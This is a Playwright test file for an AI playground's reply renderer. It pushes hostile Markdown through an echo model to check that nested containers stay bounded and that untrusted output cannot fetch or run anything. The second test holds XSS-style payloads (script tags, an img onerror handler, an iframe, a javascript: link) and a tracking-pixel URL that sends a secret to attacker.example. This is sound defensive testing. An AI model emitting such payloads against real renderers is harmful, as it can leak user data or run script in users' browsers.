import { expect, type Page, test } from "@playwright/test";
import {
  messagesBody,
  openFreshPlayground,
  reply,
  runButton,
  runUntilDone,
  setRequestBody,
} from "./fixtures/messages-body";

/**
 * Model output is untrusted. The emulator's echo model answers with the user's text verbatim, so
 * these tests put hostile Markdown into a reply through the real proxy, stream and views.
 */

const ECHO = "emulator/echo";

/** Records what the page must never do: contact another host, open a dialog, throw. */
function watch(page: Page) {
  const seen = { foreignRequests: [] as string[], dialogs: [] as string[], errors: [] as string[] };
  page.on("request", (request) => {
    const url = new URL(request.url());
    if (!["http:", "https:", "ws:", "wss:"].includes(url.protocol)) return;
    if (url.hostname !== "127.0.0.1" && url.hostname !== "localhost")
      seen.foreignRequests.push(request.url());
  });
  page.on("dialog", (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("pageerror", (error) => seen.errors.push(error.message));
  return seen;
}

async function echo(page: Page, text: string, stream: boolean) {
  await setRequestBody(
    page,
    messagesBody({
      model: ECHO,
      max_tokens: 64_000,
      stream,
      messages: [{ role: "user", content: text }],
    }),
  );
  await runUntilDone(page);
}

// Each kind of pathological nesting is bounded by the renderer's unit tests
// (components/markdown/markdown-renderer.test.tsx); here one streamed mix of them goes through
// the real proxy, stream and views.
const NESTED = "> - 1. ".repeat(600);

test("pathologically nested containers render as bounded Markdown, and the page stays alive", async ({
  page,
}) => {
  const seen = watch(page);
  await openFreshPlayground(page);
  await echo(page, NESTED, true);
  const answer = reply(page);
  await expect(answer).toBeVisible();
  // Nesting stops at a depth limit; what is deeper reads as literal text.
  const depth = () =>
    answer.evaluate((root) => {
      let deepest = 0;
      for (const el of root.querySelectorAll("ul, ol, blockquote")) {
        let d = 0;
        for (let p: Element | null = el; p && p !== root; p = p.parentElement)
          if (["UL", "OL", "BLOCKQUOTE"].includes(p.tagName)) d++;
        deepest = Math.max(deepest, d);
      }
      return deepest;
    });
  // The Markdown renderer loads on demand; until then the reply shows as plain text.
  await expect.poll(depth).toBeGreaterThan(0);
  expect(await depth()).toBeLessThanOrEqual(12);
  await expect(answer).toContainText(NESTED.trim().slice(-20).trim());

  for (const view of ["Events", "Raw"]) {
    await page.getByRole("tab", { name: view }).click();
    await expect(page.getByRole("tabpanel", { name: view })).toBeVisible();
  }
  await expect(page.getByTestId("raw-body")).toBeVisible();
  await page.getByRole("tab", { name: "Response" }).click();
  await expect(runButton(page)).toBeEnabled();
  await expect(page.getByLabel("Message 1 text")).toBeVisible();
  expect(seen).toEqual({ foreignRequests: [], dialogs: [], errors: [] });
});

test("remote images in a reply are not fetched until asked for; no HTML or script URLs run", async ({
  page,
}) => {
  const seen = watch(page);
  await openFreshPlayground(page);
  const hostile = [
    "Look: ![tracking pixel](http://attacker.example/p.png?c=secret)",
    "",
    '<img src="http://attacker.example/raw.png" onerror="alert(1)"><script>alert(2)</script>',
    "",
    '<iframe src="http://attacker.example/frame"></iframe>',
    "",
    "[click me](javascript:alert(3)) and [docs](https://docs.example/page)",
    "",
    "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)",
  ].join("\n");
  await echo(page, hostile, true);
  const answer = reply(page);
  const placeholder = answer.getByRole("button", {
    name: "Load image “tracking pixel” from attacker.example",
  });
  await expect(placeholder).toBeVisible();
  // Raw HTML stays text; the data image shows at once; the unsafe link has no target.
  await expect(answer).toContainText("<script>alert(2)</script>");
  await expect(answer.getByRole("img", { name: "dot" })).toBeVisible();
  await expect(answer.getByText("click me")).toBeVisible();
  await expect(answer.locator('a[href^="javascript:"]')).toHaveCount(0);
  await expect(answer.getByRole("link", { name: "docs" })).toHaveAttribute("rel", /noreferrer/);
  // Nothing in the reply can fetch from another host: no element carries a foreign address.
  await expect(
    answer.locator('[src*="attacker.example"], [srcset], iframe, object, embed'),
  ).toHaveCount(0);
  expect(seen.foreignRequests).toEqual([]);

  // Only the user's click loads it, without a Referer.
  await page.route("http://attacker.example/**", (route) => route.abort());
  await placeholder.click();
  const image = answer.getByRole("img", { name: "tracking pixel" });
  await expect(image).toHaveAttribute("src", "http://attacker.example/p.png?c=secret");
  await expect(image).toHaveAttribute("referrerpolicy", "no-referrer");
  expect(seen.dialogs).toEqual([]);
  expect(seen.errors).toEqual([]);
});
